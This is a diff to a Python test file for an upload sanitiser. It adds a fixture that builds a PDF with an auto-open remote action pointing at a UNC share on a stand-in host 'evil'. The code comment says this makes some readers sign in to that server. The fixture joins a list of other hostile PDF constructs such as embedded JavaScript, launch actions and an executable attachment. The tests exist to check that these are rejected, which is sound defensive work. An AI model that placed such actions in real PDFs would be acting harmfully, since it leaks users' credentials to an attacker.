@@ -9,6 +9,7 @@ import pikepdf
 import pytest
 from pikepdf import Array, Dictionary, Name, Stream
 from PIL import Image
+from PIL.PngImagePlugin import PngInfo
 
 from tragwerk.foundation import uploads
 from tragwerk.foundation.uploads import UploadError, images, inspecting, pdf
@@ -68,8 +69,6 @@ def test_a_photo_is_upright_and_does_not_tell_where_it_was_taken():
 
 
 def test_texts_in_a_png_are_dropped():
-    from PIL.PngImagePlugin import PngInfo
-
     info = PngInfo()
     info.add_text("Author", "Ada")
     content = _image("PNG", pnginfo=info)
@@ -143,6 +142,12 @@ def _launch(document):
     document.pages[0].obj.Annots = Array([document.make_indirect(link)])
 
 
+def _other_file(document):
+    # Following it, some readers sign in at the server that the path names.
+    action = Dictionary(S=Name.GoToR, F="\\\\evil\\share\\a.pdf")
+    document.Root.OpenAction = action
+
+
 def _attachment(document):
     document.attachments["a.exe"] = b"MZ"
 
@@ -170,6 +175,7 @@ def _xfa(document):
         _javascript,
         _javascript_in_stream,
         _launch,
+        _other_file,
         _attachment,
         _named_javascript,
         _submit,
